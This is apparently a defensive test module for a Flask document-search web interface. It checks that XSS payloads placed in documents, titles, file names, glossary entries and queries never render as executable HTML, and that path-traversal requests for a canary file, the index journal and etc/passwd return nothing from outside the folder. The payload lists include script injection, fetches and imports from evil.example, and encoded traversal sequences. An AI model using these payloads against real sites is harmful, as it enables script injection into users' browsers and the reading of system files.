"""Texts that would run in a browser, and paths that would leave the folder: all over an index, asked for.

``python -m tests.faults payloads paths`` tries them at full size.
"""

import itertools
import re
import tempfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import quote

from flask import Flask
from flask.testing import FlaskClient

from index.updating import update_index
from tests.webui.pages import executable_nodes, links, read_page
from webui import AppConfig, create_app

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "</mark><script>alert(1)</script><mark>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "{{ 7*7 }}{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<object data=//evil.example></object>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<script>\u2066alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]
"""The shapes of what has run somewhere."""

_RUNNING = (
    "alert(1)", "fetch('//evil.example')", "top[`al`+`ert`](1)", "import('//evil.example')", "eval(name)",
    "location='javascript:alert(1)'", "document.write(1)",
)  # fmt: skip


def many_payloads(count: int) -> list[str]:
    """So many different payloads: the shapes, each with what may stand in it."""
    varied = (
        payload.replace("alert(1)", running)
        for running, payload in itertools.product(_RUNNING, PAYLOADS)
        if running == "alert(1)" or "alert(1)" in payload
    )
    return list(itertools.islice(itertools.chain(varied, _cased()), count))


def _cased() -> Iterator[str]:
    """The same in capitals, with line ends, tabs and control characters inside of tags."""
    for mark in ("\t", "\n", "\x0c", "/", "\x00"):
        for payload in PAYLOADS:
            if " " in payload:
                yield payload.replace(" ", mark).upper()


def make_hostile_app(base: Path, payloads: Sequence[str]) -> Flask:
    """An application whose documents, titles, file names and terms are all payloads."""
    folder = base / "documents"
    folder.mkdir()
    for number, payload in enumerate(payloads):
        text = f"Subject {payload}\n\nLa ASPAN y {payload} en un pasaje.\n\nOtra ASPAN{payload}pegada.\n"
        name = re.sub(r"[/\0]", "_", payload)[:60]
        (folder / f"{number} {name}.txt").write_text(text, encoding="utf-8")
        titled = f"# ASPAN {payload}\n\n## {payload}\n\nUna ASPAN.\n"
        (folder / f"{number}.md").write_text(titled, encoding="utf-8")
    (folder / "empty <img src=x onerror=alert(1)>.txt").write_bytes(b"")
    termbase = base / "terms.tsv"
    rows = [
        f"c{n}\t{p} siglas\t{p} acronym\tambiguous: {p}"
        for n, p in enumerate(payloads)
        if not set(p) & set('"*~()|\t\n\x0c\0')
    ]
    termbase.write_text("concept\tes\ten\tnote\n" + "\n".join(rows) + "\n", encoding="utf-8")
    update_index(base / "index", [folder])
    return create_app(AppConfig(index_directory=base / "index", termbase_paths=(termbase,)))


def try_payloads(count: int) -> str:
    """So many payloads in body, title, file name, glossary and query, as HTML and as JSON; what ran."""
    payloads = many_payloads(count)
    assert len(set(payloads)) == count
    pages = answers = 0
    with tempfile.TemporaryDirectory() as base:
        app = make_hostile_app(Path(base), payloads)
        client = app.test_client()
        addresses = [
            "/?q=ASPAN&limit=200",
            "/?q=ASPAN&limit=200&offset=200",
            "/documents",
            "/status",
            "/terms",
        ]
        for address in list(addresses):
            addresses += links(read_page(client.get(address)), "tbody a, .hit h2 a, td a")
        for address in dict.fromkeys(addresses):
            response = client.get(address)
            assert response.status_code in {200, 404}, address
            assert executable_nodes(read_page(response)) == [], address
            pages += 1
        for payload in payloads:
            for path in ("/", "/documents", "/terms"):
                response = client.get(path, query_string={"q": f"ASPAN {payload}", "tag": payload})
                assert response.status_code == 200, (path, payload)
                assert executable_nodes(read_page(response)) == [], (path, payload)
                pages += 1
            response = client.get("/api/v1/search", query_string={"q": f"ASPAN {payload}"})
            assert response.mimetype in {"application/json", "application/problem+json"}
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            answers += 1
        app.extensions["bisagra"].close()
    return (
        f"{count} payloads in body, title, file name, glossary and query: {pages} pages and {answers} JSON "
        "answers, 0 executable nodes"
    )


_UP = (
    "../",
    "..%2f",
    "%2e%2e/",
    "..\\",
    "..%5c",
    "....//",
    "%252e%252e%252f",
    "..;/",
    "..%c0%af",
    "/",
    "//",
    "%00",
)
_CANARY = "the canary that lies outside"


def try_paths(count: int) -> str:
    """So many paths out of the folder, wherever an address takes one; what came from outside."""
    asked = 0
    with tempfile.TemporaryDirectory() as name:
        base = Path(name)
        (base / "outside.txt").write_text(_CANARY, encoding="utf-8")
        folder = base / "documents"
        folder.mkdir()
        (folder / "inside.txt").write_text("El puerto.", encoding="utf-8")
        (folder / "link.txt").symlink_to(base / "outside.txt")
        (folder / "up").symlink_to(base)
        update_index(base / "index", [folder])
        app = create_app(AppConfig(index_directory=base / "index"))
        client = app.test_client()
        for address in itertools.islice(_paths(base, client), count):
            body = client.get(address).get_data()
            assert _CANARY.encode() not in body, address
            assert b"journal" not in body[:16].lower(), address
            asked += 1
        _swap(folder)
        for link in links(read_page(client.get("/documents")), "a"):
            for address in (link, f"{link.partition('?')[0]}/original"):
                assert _CANARY.encode() not in client.get(address).get_data(), address
                asked += 1
        app.extensions["bisagra"].close()
    return f"{asked} paths asked for: 0 bytes from outside of the folder"


def _paths(base: Path, client: FlaskClient) -> Iterator[str]:
    document = links(read_page(client.get("/?q=puerto")), ".hit h2 a")[0].partition("?")[0]
    targets = ("outside.txt", "index/journal.sqlite", "etc/passwd", str(base / "outside.txt"))
    prefixes = ("/source/", f"{document}/", "/static/", "/terms/", "/api/v1/chunks/", "/documents?q=", "/")
    for depth, up, target, prefix in itertools.product((1, 3, 8), _UP, targets, prefixes):
        yield f"{prefix}{up * depth}{target}"
        yield f"{prefix}{quote(up * depth + target, safe='')}/original"


def _swap(folder: Path) -> None:
    """Put a link in the place of a file that is indexed."""
    (folder / "inside.txt").unlink()
    (folder / "inside.txt").symlink_to(folder.parent / "outside.txt")
